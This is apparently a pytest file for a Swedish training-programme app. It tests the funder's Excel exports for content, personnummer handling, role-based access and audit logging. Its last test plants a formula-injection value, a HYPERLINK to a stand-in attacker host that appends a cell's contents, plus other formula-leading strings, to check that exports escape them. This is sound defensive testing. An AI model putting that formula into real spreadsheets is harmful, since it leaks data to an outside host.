"""The funder's exports: content, who may take them, and the audit trail."""

import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from grannar.core.crypto import encrypt_text
from grannar.core.models import AuditEvent
from grannar.reporting.counting import figures
from grannar.reporting.esf import EXPORTS
from grannar.training.facts import Scope
from grannar.training.models import MonthlyAttestation
from tests.factories import sign_in

PNR = "198001012385"


@pytest.fixture
def with_personnummer(populated):
    person = populated["people"][0]
    person.personnummer_encrypted = encrypt_text(PNR)
    person.save()
    return populated


def download(client, user, code, kind):
    sign_in(client, user)
    response = client.get(f"/reporting/{code}/esf/{kind}.xlsx")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    return load_workbook(io.BytesIO(response.content))


def values(book) -> list[tuple]:
    return [row for sheet in book.worksheets for row in sheet.iter_rows(values_only=True)]


def test_scb_export_carries_personnummer_and_entry_exit_dates(with_personnummer, client):
    book = download(
        client,
        with_personnummer["users"]["auditor"],
        with_personnummer["programme"].code,
        "participants",
    )
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    header, body = rows[0], rows[1:]
    assert len(body) == 15  # participants only: the support resource is not in it
    first = next(row for row in body if row[1] == PNR)
    assert first[header.index("Startdatum")].date().isoformat() == "2024-03-04"
    assert first[header.index("Slutdatum")].date().isoformat() == "2025-02-03"
    by_month = list(book.worksheets[1].iter_rows(values_only=True))
    assert sum(row[1] for row in by_month[1:]) == 15
    assert sum(row[2] for row in by_month[1:]) == 15


@pytest.mark.parametrize("kind", ["attendance", "cofinancing"])
def test_other_exports_never_carry_personnummer(with_personnummer, client, kind):
    book = download(
        client, with_personnummer["users"]["admin"], with_personnummer["programme"].code, kind
    )
    assert PNR not in repr(values(book))


def test_attendance_export_per_participant_and_month_with_attestation(populated, client):
    person = populated["people"][0]  # 2.5 h on 2024-03-04, 3 h on 2025-02-03
    MonthlyAttestation.objects.create(
        person=person,
        programme=populated["programme"],
        month="2024-03-01",
        hours=Decimal(2),
        statement="Jag intygar …",
    )
    book = download(client, populated["users"]["admin"], populated["programme"].code, "attendance")
    rows = [row for row in values(book)[1:] if row[2] == person.last_name]
    assert [(row[0], row[5], row[6], row[7]) for row in rows] == [
        ("2024-03", 1, 2, 2),
        ("2025-02", 1, 3, None),
    ]


def test_cofinancing_export_adds_up_to_the_figures(populated, client):
    book = download(client, populated["users"]["admin"], populated["programme"].code, "cofinancing")
    rows = values(book)
    total = rows[-1]
    result = figures(Scope(programme=populated["programme"]))
    assert total[0] == "Summa"
    assert total[4] == result.attended_hours
    assert Decimal(str(total[6])) == result.cofinancing_sek


@pytest.mark.parametrize("kind", sorted(EXPORTS))
def test_every_export_is_audit_logged_without_personal_data(populated, client, kind):
    user = populated["users"]["auditor"]
    download(client, user, populated["programme"].code, kind)
    event = AuditEvent.objects.get(action=f"reporting.esf_{kind}.exported")
    assert event.actor_id == user.pk
    assert event.data["rows"] > 0


@pytest.mark.parametrize("role", ["coordinator", "evaluator", "trainer", "participant"])
def test_exports_are_refused_to_other_roles(populated, client, role):
    sign_in(client, populated["users"][role])
    response = client.get(f"/reporting/{populated['programme'].code}/esf/participants.xlsx")
    assert response.status_code == 403
    assert not AuditEvent.objects.filter(action__startswith="reporting.esf").exists()


def test_unknown_export_is_not_found(populated, client):
    sign_in(client, populated["users"]["admin"])
    assert client.get(f"/reporting/{populated['programme'].code}/esf/other.xlsx").status_code == 404


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&B2,"Klicka")'


def cells(book) -> list:
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("kind", sorted(EXPORTS))
def test_hostile_names_and_codes_come_out_as_text(with_personnummer, client, kind):
    """A name from a coordinator or an import, or a category code, never becomes a formula."""
    person = with_personnummer["people"][0]
    person.first_name = HOSTILE_NAME
    person.last_name = "@SUM(A1:A9)"
    person.save()
    person.workplace.name = "-2+3"
    person.workplace.save()
    person.staff_category.code = "+socialsekreterare"
    person.staff_category.save()
    book = download(
        client, with_personnummer["users"]["admin"], with_personnummer["programme"].code, kind
    )
    every = cells(book)
    assert not [cell.coordinate for cell in every if cell.data_type == "f"]
    texts = {cell.value for cell in every if cell.data_type == "s"}
    expected = {
        "participants": {"'" + HOSTILE_NAME, "'@SUM(A1:A9)", "'+socialsekreterare"},
        "attendance": {"'" + HOSTILE_NAME, "'@SUM(A1:A9)", "'-2+3"},
        "cofinancing": {"'+socialsekreterare"},
    }[kind]
    assert expected <= texts
    assert HOSTILE_NAME not in texts
    numbers = [c.value for c in every if c.data_type == "n" and c.value is not None]
    assert numbers
    assert all(isinstance(value, int | float) for value in numbers)
